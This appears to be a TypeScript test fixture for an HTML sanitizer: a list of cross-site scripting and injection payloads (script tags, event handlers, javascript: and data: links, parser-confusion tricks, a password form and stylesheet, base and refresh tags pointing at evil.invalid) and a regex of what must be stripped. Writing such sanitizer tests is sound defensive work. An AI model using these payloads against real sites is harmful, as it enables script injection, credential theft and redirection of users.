/** Malicious texts that an administrator could enter. Each calls `fired` if any of its script runs. */
export const hostileHtml: readonly string[] = [
  '<script>fired()</script>hello',
  '<img src=x onerror=fired()>hello',
  '<svg onload=fired()><desc>hello</desc></svg>hello',
  '<svg><script>fired()</script></svg>hello',
  '<p onclick="fired()" style="position:fixed;inset:0">hello</p>',
  '<a href="javascript:fired()">hello</a>',
  '<a href=" java\nscript:fired()">hello</a>',
  '<a href="data:text/html,<script>fired()</script>">hello</a>',
  '<a href="//evil.invalid/">hello</a>',
  '<a href="/\\evil.invalid/">hello</a>',
  '<a href="http://evil.invalid/" target="_self">hello</a>',
  '<iframe srcdoc="<script>fired()</script>"></iframe>hello',
  '<form action="https://evil.invalid/"><input name="password"><button>hello</button></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fired()&gt;">hello',
  '<noscript><p title="</noscript><img src=x onerror=fired()>">hello</p></noscript>',
  '<style>@import "https://evil.invalid/x.css";</style>hello',
  '<link rel="stylesheet" href="https://evil.invalid/x.css">hello',
  '<base href="https://evil.invalid/">hello',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">hello',
  '<object data="https://evil.invalid/"></object><embed src="https://evil.invalid/">hello',
  '<template><img src=x onerror=fired()></template>hello',
  '<p id="root" class="x" name="body">hello</p>',
];

/** What must not be left of them: other tags, handlers, addresses elsewhere. */
export const harm = /<(?!\/?(a|p|table|tbody|td|th|tr)\b)|on\w+=|style=|id=|class=|name=|evil\.invalid|script:|data:/i;
